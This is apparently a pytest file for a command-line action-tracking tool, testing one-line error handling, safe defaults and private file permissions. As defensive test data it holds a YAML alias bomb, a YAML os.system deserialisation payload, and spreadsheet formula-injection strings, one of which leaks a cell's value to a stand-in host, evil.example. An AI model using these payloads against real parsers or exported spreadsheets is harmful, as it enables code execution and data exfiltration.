"""Bad and hostile input at the command line: one clear line on stderr, exit 1, no traceback, nothing written."""

import csv
import io
import os
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from models.files import MAX_YAML_BYTES, load_register, load_report
from models.rules.cells import neutralise
from models.rules.errors import DefinitionError
from models.settings import Settings, load_settings
from models.store.db import session_scope
from models.store.fanout import fan_out
from models.store.tables import Action, Event


def one_line_error(result: Any, fragment: str) -> None:
    assert result.code == 1, (result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert fragment in lines[0], lines[0]


def counts() -> tuple[int, int]:
    with session_scope() as session:
        return len(session.exec(select(Action)).all()), len(session.exec(select(Event)).all())


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (("actions", "list", "--status", "finished"), "--status: 'finished' is not a status"),
        (("actions", "list", "--report", "no-such-report"), "report 'no-such-report' is not registered"),
        (("actions", "list", "--agency", "atlantis-police"), "agency 'atlantis-police' is not registered"),
        (("status", "--report", "no-such-report"), "report 'no-such-report' is not registered"),
        (("actions", "export", "--agency", "atlantis-police"), "agency 'atlantis-police'"),
    ],
)
def test_a_filter_naming_nothing_known_is_an_error(
    assigned: Settings, cli_in_process: Any, args: Any, fragment: str
) -> None:
    before = counts()
    one_line_error(cli_in_process(*args), fragment)
    assert counts() == before


@pytest.mark.parametrize(
    ("variable", "value", "fragment"),
    [
        ("ACTIONED_DATABASE_URL", "mysql://someone@db.example.org/actioned", "unsupported database"),
        ("ACTIONED_DATABASE_URL", "not a url", "is not a database URL"),
        ("ACTIONED_DATABASE_URL", "postgresql://postgres:hunter2@127.0.0.1:1/actioned", "cannot open the database"),
        ("ACTIONED_SMTP_URL", "ftp://mail.example.org", "ACTIONED_SMTP_URL: 'ftp://mail.example.org' must start"),
        ("ACTIONED_SMTP_URL", "smtp://mail.example.org:port", "has a port that is not a number"),
        ("ACTIONED_LINK_DAYS", "forty", "ACTIONED_LINK_DAYS: 'forty' is not a whole number"),
        ("ACTIONED_LINK_DAYS", "0", "ACTIONED_LINK_DAYS: '0'"),
        ("ACTIONED_LINK_DAYS", "-3", "ACTIONED_LINK_DAYS: '-3'"),
    ],
)
def test_a_bad_setting_is_refused_before_anything_is_written(
    home: Settings, cli_in_process: Any, monkeypatch: pytest.MonkeyPatch, variable: str, value: str, fragment: str
) -> None:
    monkeypatch.setenv(variable, value)
    result = cli_in_process("init")
    one_line_error(result, fragment)
    assert "hunter2" not in result.stderr
    assert not home.home.exists()  # nothing written: not even the data folder


def test_a_missing_postgresql_database_is_one_line(
    home: Settings, cli_in_process: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    if not home.database_url.startswith("postgresql"):
        pytest.skip("a missing database is a PostgreSQL case (SQLite creates its file)")
    monkeypatch.setenv("ACTIONED_DATABASE_URL", home.database_url.rsplit("/", 1)[0] + "/no_such_database_here")
    one_line_error(cli_in_process("actions", "list"), 'database "no_such_database_here" does not exist')


@pytest.mark.parametrize("kind", ["a file", "under a file", "unwritable"])
def test_a_bad_data_folder(
    home: Settings, cli_in_process: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, kind: str
) -> None:
    monkeypatch.delenv("ACTIONED_DATABASE_URL")
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    target = {"a file": blocker, "under a file": blocker / "home", "unwritable": Path("/proc/actioned-home")}[kind]
    monkeypatch.setenv("ACTIONED_HOME", str(target))
    result = cli_in_process("init")
    assert result.code == 1, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert str(target if kind == "unwritable" else blocker) in result.stderr


def test_web_refuses_to_start_with_bad_link_days(home: Settings, cli: Any) -> None:
    result = cli("web", "--port", "0", env={"ACTIONED_LINK_DAYS": "soon"}, timeout=60)
    one_line_error(result, "ACTIONED_LINK_DAYS: 'soon'")


def test_an_alias_bomb_is_refused_quickly(tmp_path: Path) -> None:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("\n".join(lines) + "\nid: x\n")
    started = time.perf_counter()
    with pytest.raises(DefinitionError, match=r"bomb\.yaml: refused: its aliases expand to more than"):
        load_report(bomb)
    assert time.perf_counter() - started < 5


def test_a_huge_yaml_file_is_refused_unread(tmp_path: Path) -> None:
    huge = tmp_path / "huge.yaml"
    with huge.open("w") as f:
        f.write("agencies:\n")
        line = "  - {id: a, name: A}\n"
        f.write(line * (MAX_YAML_BYTES // len(line) + 2))
    with pytest.raises(DefinitionError, match=r"huge\.yaml: too large for a definition"):
        load_register(huge)


def test_yaml_python_objects_are_refused(tmp_path: Path) -> None:
    evil = tmp_path / "evil.yaml"
    evil.write_text("id: !!python/object/apply:os.system ['echo pwned']\n")
    with pytest.raises(DefinitionError, match=r"evil\.yaml line 1: malformed YAML"):
        load_report(evil)


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("An ordinary response", "An ordinary response"),
        (7, 7),
    ],
)
def test_neutralise(cell: object, stored: object) -> None:
    assert neutralise(cell) == stored


def test_exports_never_hold_a_formula(assigned: Settings, cli_in_process: Any, tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    with session_scope() as session:
        action = session.exec(select(Action).where(Action.agency_id == "wiltshire-police")).first()
        assert action is not None
        action.response = hostile
        action.owner_email = "@SUM(1+1)@example.org"
        session.add(action)
    result = cli_in_process("actions", "export", "--agency", "wiltshire-police")
    assert result.code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert "'" + hostile in [r["response"] for r in rows]
    assert all(not r["response"].startswith(("=", "+", "-", "@")) for r in rows)
    assert result.stdout.startswith('"action"')  # every field quoted
    out = tmp_path / "board.xlsx"
    assert (
        cli_in_process("actions", "export", "--format", "xlsx", "--agency", "wiltshire-police", "--out", str(out)).code
        == 0
    )
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + hostile in [c.value for c in cells]
    assert "'@SUM(1+1)@example.org" in [c.value for c in cells]


KEY_READER = """
import sys
from models.settings import load_settings
sys.stdout.write(load_settings().secret_key())
"""


def test_processes_starting_together_on_a_new_data_folder_read_one_key(tmp_path: Path) -> None:
    for attempt in range(3):
        home = tmp_path / f"home-{attempt}"
        env = {k: v for k, v in os.environ.items() if not k.startswith("ACTIONED_")}
        env["ACTIONED_HOME"] = str(home)
        procs = [
            subprocess.Popen([sys.executable, "-c", KEY_READER], env=env, stdout=subprocess.PIPE, text=True)
            for _ in range(8)
        ]
        keys = {p.communicate(timeout=60)[0] for p in procs}
        assert all(p.returncode == 0 for p in procs)
        assert len(keys) == 1
        assert len(keys.pop()) > 40
        assert [p.name for p in home.iterdir()] == ["secret.key"]  # no temporary file left behind


def test_the_data_folder_database_outbox_and_evidence_are_private(
    home: Settings, cli_in_process: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.delenv("ACTIONED_DATABASE_URL")  # the default: SQLite inside the data folder
    monkeypatch.delenv("ACTIONED_SECRET_KEY")
    assert cli_in_process("init", "--examples").code == 0
    with session_scope() as session:
        fan_out(session, report_id="safe-to-share")
    with session_scope() as session:
        action_id = session.exec(select(Action.id).where(Action.agency_id == "wiltshire-police")).first()
    evidence = tmp_path / "note.txt"
    evidence.write_text("evidence")
    result = cli_in_process("action", "evidence", str(action_id), "--file", str(evidence))
    assert result.code == 0, result.stderr
    assert cli_in_process("action", "link", str(action_id)).code == 0  # makes the secret key
    cli_in_process("remind", "--today", "2021-06-10")
    settings = load_settings()
    written = [settings.home, *settings.home.rglob("*")]
    assert settings.home / "actioned.db" in written
    assert settings.home / "secret.key" in written
    assert any(p.suffix == ".eml" for p in settings.outbox.iterdir())
    assert any(settings.evidence_dir.rglob("*-note.txt"))
    for path in written:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, (path, oct(mode))
